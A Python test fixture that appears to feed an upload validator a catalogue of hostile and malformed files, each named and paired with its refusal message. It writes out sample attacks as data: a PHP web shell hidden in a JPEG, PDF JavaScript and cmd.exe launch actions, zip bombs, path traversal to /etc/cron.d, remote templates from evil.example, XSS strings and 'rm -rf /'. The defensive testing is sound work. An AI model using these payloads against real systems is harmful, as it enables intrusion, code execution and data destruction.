"""What is not taken, by name, with the sentence that refuses it."""

from __future__ import annotations

import gzip
import struct
import zipfile
import zlib
from io import BytesIO

from commitments.files import refusing
from commitments.files.kinds import ODT
from urbanshift.errors import Text

from . import samples

JPEG, PNG, PDF, DOCX = samples.picture(), samples.picture("PNG"), samples.pdf(), samples.office()
ZIP = samples.packed_up({"notes.txt": "x"})
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _with_remark(package: bytes, remark: bytes) -> bytes:
    return package[:-2] + struct.pack("<H", len(remark)) + remark


def _second_entry_over_the_first() -> bytes:
    """Two entries of the directory, and one content for both."""
    package = bytearray(samples.office("docx", {"word/aaaa.xml": "x" * 50, "word/bbbb.xml": "x" * 50}))
    first, second = (package.rindex(name) - 46 for name in (b"word/aaaa.xml", b"word/bbbb.xml"))
    package[second + 42 : second + 46] = package[first + 42 : first + 46]
    return bytes(package)


def _with_gap(package: bytes, more: bytes) -> bytes:
    """With more between the last entry and the directory."""
    end = len(package) - 22
    (at,) = struct.unpack_from("<L", package, end + 16)
    return package[:at] + more + package[at:-6] + struct.pack("<LH", at + len(more), 0)


def _steep() -> bytes:
    return samples.office("xlsx", {"xl/worksheets/sheet1.xml": b"\0" * 8_000_000})


def _too_much() -> bytes:
    """Each entry is modest; together they are half a gigabyte. The directory says so, whatever there is."""
    package = samples.office("pptx", {f"ppt/media/{number}.bin": b"\0" * 3_000_000 for number in range(4)})
    data = bytearray(package)
    for number in range(4):
        at = data.rindex(f"ppt/media/{number}.bin".encode()) - 46
        data[at + 20 : at + 28] = struct.pack("<LL", 3_000_000, 130_000_000)
    return bytes(data)


def _packed_by(method: int) -> bytes:
    to = BytesIO()
    with zipfile.ZipFile(to, "w", method) as package:
        for name, content in samples.office_entries().items():
            package.writestr(name, content)
    return to.getvalue()


def _twice(name: str) -> bytes:
    other = name.swapcase()
    return samples.office("docx", {name: "x", other: "y"})


def _inside(entries: samples.Entries) -> bytes:
    return samples.office("docx", {"word/embeddings/Sheet1.xlsx": samples.packed_up(entries)})


def _pictures() -> dict[str, tuple[bytes, Text]]:
    many = refusing.PIXELS % {"count": 2500, "most": 50}
    return {
        "a photo cut short": (JPEG[:-40], refusing.BROKEN),
        "a photo without an end": (JPEG[:-2], refusing.BROKEN),
        "a photo of nothing": (b"\xff\xd8\xff\xd9", refusing.BROKEN),
        "a photo that is only a beginning": (b"\xff\xd8\xff", refusing.BROKEN),
        "a photo of no height": (samples.jpeg_that_says(50, 0), refusing.BROKEN),
        "a photo with two sizes": (
            samples.with_segments(JPEG, samples.segment(0xC0, b"\x08\0\x08\0\x08\x01\x01\x11\0")),
            refusing.BROKEN,
        ),
        "a photo with no colours to it": (JPEG.replace(b"\xff\xdb", b"\xff\xfe"), refusing.BROKEN),
        "a photo of too many points": (samples.jpeg_that_says(50_000, 50_000), many),
        "a photo that sharpens for ever": (samples.jpeg_of_many_scans(), refusing.BROKEN),
        "a photo that is a page, too": (
            samples.with_segments(JPEG, samples.segment(0xFE, PAGE)), refusing.HIDDEN,
        ),
        "a photo with a page after it": (JPEG + PAGE, refusing.HIDDEN),
        "a photo with PHP in it": (
            samples.with_segments(JPEG, samples.segment(0xFE, b"<?php system($_GET['c']); ?>")), refusing.HIDDEN,
        ),
        "a photo with a ZIP after it": (JPEG + ZIP, refusing.HIDDEN),
        "a photo that is a PDF, too": (
            samples.with_segments(JPEG, samples.segment(0xFE, PDF)), refusing.HIDDEN,
        ),
        "a photo with a RAR after it": (JPEG + b"Rar!\x1a\x07\x01\0" + b"\0" * 100_000, refusing.HIDDEN),
        "a photo after something else": (b"GIF" + JPEG, refusing.HIDDEN),
        "a picture cut short": (PNG[:-20], refusing.BROKEN),
        "a picture that is only a beginning": (b"\x89PNG\r\n\x1a\n", refusing.BROKEN),
        "a picture without a head": (PNG[:8] + PNG[33:], refusing.BROKEN),
        "a picture with a wrong checksum": (PNG[:29] + b"\0\0\0\0" + PNG[33:], refusing.BROKEN),
        "a picture with something after it": (PNG + b"more", refusing.HIDDEN),
        "a picture with a ZIP after it": (PNG + ZIP, refusing.HIDDEN),
        "a picture with a page in it": (
            samples.picture("PNG")[:33] + samples.chunk(b"tEXt", b"Comment\0" + PAGE) + PNG[33:], refusing.HIDDEN,
        ),
        "a bomb of a picture": (samples.png_that_says(50_000, 50_000), many),
        "a picture of more than it holds": (samples.png_that_says(5_000, 5_000), refusing.BROKEN),
        "a bomb of a text in a picture": (
            PNG[:33] + samples.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * 50_000_000, 9)) + PNG[33:],
            refusing.BROKEN,
        ),
        "a picture that moves": (samples.moving("PNG"), refusing.MOVING),
        "a WebP that moves": (samples.moving("WEBP"), refusing.MOVING),
        "a WebP cut short": (samples.picture("WEBP")[:-9], refusing.BROKEN),
        "a WebP with something after it": (samples.picture("WEBP") + b"more", refusing.HIDDEN),
        "a WebP of too many points": (
            b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff\x3f\0" * 2,
            refusing.PIXELS % {"count": 269, "most": 50},
        ),
        "a WebP of nothing": (b"RIFF\x0c\0\0\0WEBPVP8 \0\0\0\0", refusing.BROKEN),
        "a WebP of an unknown form": (b"RIFF\x0c\0\0\0WEBPABCD\0\0\0\0", refusing.BROKEN),
        "HEIC": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", refusing.HEIC),
        "HEIC by its other name": (b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", refusing.HEIC),
        "AVIF": (b"\0\0\0\x1cftypavif\0\0\0\0", refusing.OTHER_PICTURE),
        "GIF": (samples.picture("GIF"), refusing.OTHER_PICTURE),
        "BMP": (samples.picture("BMP"), refusing.OTHER_PICTURE),
        "TIFF": (samples.picture("TIFF"), refusing.OTHER_PICTURE),
        "a film of a phone": (b"\0\0\0\x18ftypmp42\0\0\0\0isommp42", refusing.FILM),
        "a film of the web": (b"\x1a\x45\xdf\xa3\0\0\0\0webm", refusing.FILM),
        "sound": (b"RIFF\x24\0\0\0WAVEfmt ", refusing.FILM),
        "a form of RIFF": (b"RIFF\x24\0\0\0ACONanih", refusing.UNKNOWN),
    }  # fmt: skip


def _pdfs() -> dict[str, tuple[bytes, Text]]:
    action = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    many = [samples.packed(b"x" * 30_000_000, level=9)] * 4
    return {
        "a PDF cut short": (PDF[:-30], refusing.BROKEN),
        "a PDF that is only a beginning": (b"%PDF-1.7", refusing.BROKEN),
        "a PDF of no version": (PDF.replace(b"%PDF-1.7", b"%PDF-x.y"), refusing.BROKEN),
        "a PDF whose table is elsewhere": (PDF.replace(b"startxref\n", b"startxref\n9"), refusing.BROKEN),
        "a PDF with something before it": (samples.pdf(before=b"MIME-Version: 1.0\r\n"), refusing.HIDDEN),
        "a PDF with something after it": (PDF + b"more", refusing.HIDDEN),
        "a PDF with a ZIP after it": (PDF + ZIP, refusing.HIDDEN),
        "a PDF with a ZIP in it": (
            samples.pdf(b"<< >>\nstream\n" + _with_remark(ZIP, b"") + b"\nendstream"), refusing.HIDDEN,
        ),
        "a PDF that is a page, too": (samples.pdf(within=b"%" + PAGE + b"\n"), refusing.HIDDEN),
        "a PDF with a password": (samples.pdf(trailer=b"/Encrypt 4 0 R"), refusing.PDF_LOCKED),
        "a PDF that runs a script": (samples.pdf(catalog=action), refusing.PDF_ACTIVE),
        "a PDF that hides the name": (
            samples.pdf(catalog=action.replace(b"JavaScript", b"J#61vaScrip#74")), refusing.PDF_ACTIVE,
        ),
        "a PDF with a script packed in it": (
            samples.pdf(samples.packed(b"5 0 " + samples.SCRIPT)), refusing.PDF_ACTIVE,
        ),
        "a PDF with a script packed in a hidden way": (
            samples.pdf(samples.packed(b"5 0 " + samples.SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")),
            refusing.PDF_ACTIVE,
        ),
        "a PDF with objects packed in a rare way": (
            samples.pdf(samples.packed(b"x", b"[/ASCII85Decode /FlateDecode]")), refusing.PDF_ACTIVE,
        ),
        "a PDF with objects that are shifted": (
            samples.pdf(samples.packed(b"x", more=b"/DecodeParms << /Predictor 12 >>")), refusing.PDF_ACTIVE,
        ),
        "a PDF with objects far from their kind": (
            samples.pdf(samples.packed(b"x", more=b" " * 5000)), refusing.PDF_ACTIVE,
        ),
        "a PDF with objects that are broken": (
            samples.pdf(samples.packed(b"x" * 999).replace(b"x\x9c", b"xx")), refusing.BROKEN,
        ),
        "a PDF with objects cut short": (
            samples.pdf(samples.packed(bytes(range(256)) * 9).replace(b"\nendstream", b"")[:-20] + b"\nendstream"),
            refusing.BROKEN,
        ),
        "a bomb of a PDF": (samples.pdf(*many), refusing.UNPACKS),
        "a PDF of countless packs": (samples.pdf(b"/ObjStm " * 6000 + b"obj stream\n"), refusing.PDF_ACTIVE),
        "a PDF that starts a program": (samples.pdf(b"<< /S /Launch /F (cmd.exe) >>"), refusing.PDF_ACTIVE),
        "a PDF with files attached": (
            samples.pdf(catalog=b"/Names << /EmbeddedFiles 9 0 R >>"), refusing.PDF_ACTIVE,
        ),
        "a PDF with a form that runs": (samples.pdf(catalog=b"/AcroForm << /XFA 9 0 R >>"), refusing.PDF_ACTIVE),
        "a PDF with a script behind a false link": (
            samples.pdf(b"<< /X (/URI (a)\n/S /JavaScript /JS (x) >>"), refusing.PDF_ACTIVE,
        ),
    }  # fmt: skip


def _documents() -> dict[str, tuple[bytes, Text]]:
    office, libre = samples.office, samples.libre
    return {
        "a document cut short": (DOCX[:-30], refusing.BROKEN),
        "a document that is only a beginning": (b"PK\x03\x04", refusing.BROKEN),
        "a document with something before it": (b"PK\x03\x04" + DOCX, refusing.HIDDEN),
        "a document with a page before it": (PAGE + DOCX, refusing.MARKUP),
        "a document with something after it": (DOCX + b"more", refusing.HIDDEN),
        "a document with a remark": (_with_remark(DOCX, b"more"), refusing.HIDDEN),
        "a document with something within": (_with_gap(DOCX, b"more than nothing"), refusing.HIDDEN),
        "a document with a gap": (_with_gap(DOCX, b"x" * 12), refusing.HIDDEN),
        "a document that is a PDF, too": (
            samples.packed_up({"a.pdf": "", **samples.office_entries()}).replace(b"a.pdf", b"%PDF-"), refusing.HIDDEN,
        ),
        "entries that share their content": (_second_entry_over_the_first(), refusing.HIDDEN),
        "a wrong checksum": (
            DOCX.replace(struct.pack("<L", zlib.crc32(b"<document/>")), b"\0\0\0\0"), refusing.BROKEN,
        ),
        "a smaller size than there is": (samples.lying(DOCX, "word/document.xml", 3), refusing.BROKEN),
        "a larger size than there is": (samples.lying(DOCX, "word/document.xml", 900), refusing.BROKEN),
        "a steep bomb": (_steep(), refusing.UNPACKS),
        "a broad bomb": (_too_much(), refusing.UNPACKS),
        "a bomb of entries": (office("docx", {f"word/{n}.xml": "" for n in range(5_001)}), refusing.UNPACKS),
        "a bomb within": (_inside({**samples.office_entries("xlsx"), "xl/a.xml": b"\0" * 8_000_000}), refusing.UNPACKS),
        "a document in a document in a document": (
            _inside({**samples.office_entries("xlsx"), "xl/embeddings/a.docx": DOCX}), refusing.UNPACKS,
        ),
        "a bomb of its own words": (
            office("docx", {"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), refusing.BROKEN,
        ),
        "types that are no XML": (
            samples.packed_up({**samples.office_entries(), "[Content_Types].xml": "<Types>"}), refusing.BROKEN,
        ),
        "types without end": (
            samples.packed_up(
                {**samples.office_entries(), "[Content_Types].xml": bytes(range(256)) * 20_000}
            ), refusing.UNPACKS,
        ),
        "a way out": (office("docx", {"../../etc/cron.d/x": "x"}), refusing.BROKEN),
        "a way out from within": (office("docx", {"word/../../x": "x"}), refusing.BROKEN),
        "an absolute name": (office("docx", {"/etc/cron.d/x": "x"}), refusing.BROKEN),
        "a drive": (office("docx", {"C:/x": "x"}), refusing.BROKEN),
        "a way out of Windows": (office("docx", {"word\\..\\..\\x": "x"}), refusing.BROKEN),
        "a name with a control": (office("docx", {"word/a\nb": "x"}), refusing.BROKEN),
        "a name that reads backwards": (office("docx", {"word/\u202egpj.exe": "x"}), refusing.BROKEN),
        "a long name": (office("docx", {"word/" + "x" * 300: "x"}), refusing.BROKEN),
        "a name twice": (_twice("word/extra.xml"), refusing.BROKEN),
        "a link": (samples.link(samples.office_entries(), "word/link"), refusing.BROKEN),
        "packed in a rare way": (_packed_by(zipfile.ZIP_LZMA), refusing.BROKEN),
        "a document with a password": (samples.locked(DOCX), refusing.LOCKED),
        "a document of Office with a password": (samples.compound("EncryptedPackage"), refusing.LOCKED),
        "a document of LibreOffice with a password": (
            libre(ODT, {"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}), refusing.LOCKED,
        ),
        "macros": (office("docx", {"word/vbaProject.bin": b"x"}), refusing.PROGRAMS),
        "macros, told by their type": (
            office("docx", more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
            refusing.PROGRAMS,
        ),
        "a document for macros": (office("docx", kind=MACRO_TYPE), refusing.PROGRAMS),
        "a sheet of macros": (office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}), refusing.PROGRAMS),
        "a control": (office("docx", {"word/activeX/activeX1.bin": b"x"}), refusing.PROGRAMS),
        "macros of LibreOffice": (libre(ODT, {"Basic/Standard/Module1.xml": "<x/>"}), refusing.PROGRAMS),
        "scripts of LibreOffice": (libre(ODT, {"Scripts/python/x": "x"}), refusing.PROGRAMS),
        "macros within": (
            _inside({**samples.office_entries("xlsx"), "xl/vbaProject.bin": b"x"}), refusing.PROGRAMS,
        ),
        "an archive within": (_inside({"x.txt": "x"}), refusing.PROGRAMS),
        "a program within": (
            office("docx", {"word/media/image1.png": b"MZ" + b"\0" * 60 + b"PE\0\0"}), refusing.PROGRAMS,
        ),
        "a program of Linux within": (office("docx", {"word/media/image1.png": b"\x7fELF\2\1"}), refusing.PROGRAMS),
        "a script within": (office("docx", {"word/run.js": "x"}), refusing.PROGRAMS),
        "a page within": (office("docx", {"word/afchunk.htm": "x"}), refusing.PROGRAMS),
        "a file of any kind within": (
            office("docx", {"word/embeddings/oleObject1.bin": samples.compound("\1Ole10Native")}), refusing.PROGRAMS,
        ),
        "macros in an older part": (
            office("docx", {"word/embeddings/a.doc": samples.compound("Macros", "_VBA_PROJECT")}), refusing.PROGRAMS,
        ),
        "macros far into an older part": (
            office("docx", {"word/a.doc": samples.COMPOUND + bytes(261_620) + samples.compound("_VBA_PROJECT")}),
            refusing.PROGRAMS,
        ),
        "a template from elsewhere": (
            office("docx", {"word/_rels/settings.xml.rels": samples.relations(
                ("attachedTemplate", "https://evil.example/a.dotm", "External"))}), refusing.ELSEWHERE,
        ),
        "an object from elsewhere": (
            office("docx", {"word/_rels/document.xml.rels": samples.relations(
                ("oleObject", "mhtml:https://evil.example/a.html", "External"))}), refusing.ELSEWHERE,
        ),
        "a template of Office": (
            office("docx", kind=samples.OFFICE.replace("document", "template", 1) + ".main+xml"),
            refusing.OTHER_DOCUMENT,
        ),
        "a part that is not there": (
            samples.packed_up({name: content for name, content in samples.office_entries().items()
                               if name != "word/document.xml"}), refusing.OTHER_DOCUMENT,
        ),
        "a document of LibreOffice that draws": (
            libre(ODT, {"mimetype": "application/vnd.oasis.opendocument.graphics"}), refusing.OTHER_DOCUMENT,
        ),
        "a document of LibreOffice without content": (
            samples.packed_up({"mimetype": ODT.content_type}), refusing.OTHER_DOCUMENT,
        ),
        "OFD": (samples.packed_up({"OFD.xml": "<x/>"}), refusing.OTHER_DOCUMENT),
        "Pages": (samples.packed_up({"Index/Document.iwa": "x"}), refusing.OTHER_DOCUMENT),
        "an older document": (samples.compound("WordDocument"), refusing.OLD_OFFICE),
        "RTF": (b"{\\rtf1\\ansi hello}", refusing.OTHER_DOCUMENT),
    }  # fmt: skip


def _others() -> dict[str, tuple[bytes, Text]]:
    return {
        "nothing": (b"", refusing.EMPTY),
        "a ZIP": (ZIP, refusing.ARCHIVE),
        "a program of Java": (samples.packed_up({"META-INF/MANIFEST.MF": "Main-Class: X"}), refusing.ARCHIVE),
        "an empty ZIP": (samples.packed_up({}), refusing.ARCHIVE),
        "RAR": (b"Rar!\x1a\x07\0", refusing.ARCHIVE),
        "7z": (b"7z\xbc\xaf\x27\x1c", refusing.ARCHIVE),
        "gzip": (gzip.compress(b"x"), refusing.ARCHIVE),
        "tar": (b"notes.txt".ljust(257, b"\0") + b"ustar\0" + b"\0" * 500, refusing.ARCHIVE),
        "a program of Windows": (b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0", refusing.PROGRAM),
        "a program of Linux": (b"\x7fELF\x02\x01\x01", refusing.PROGRAM),
        "a script of a shell": (b"#!/bin/sh\nrm -rf /\n", refusing.PROGRAM),
        "a page": (PAGE, refusing.MARKUP),
        "a page after a space": (b"\xef\xbb\xbf \n" + PAGE, refusing.MARKUP),
        "a page in UTF-16": (PAGE.decode().encode("utf-16"), refusing.MARKUP),
        "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', refusing.MARKUP),
        "SVG after a declaration": (b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', refusing.MARKUP),
        "a script": (b"alert(document.cookie)", refusing.TEXT),
        "a table of text": ("城市;数\n成都;1\n".encode(), refusing.TEXT),
        "a table of text in the older letters of China": ("城市;数\n成都;1\n".encode("gb18030"), refusing.TEXT),
        "noise": (bytes(range(256)), refusing.UNKNOWN),
    }  # fmt: skip


HOSTILE: dict[str, tuple[bytes, Text]] = _pictures() | _pdfs() | _documents() | _others()
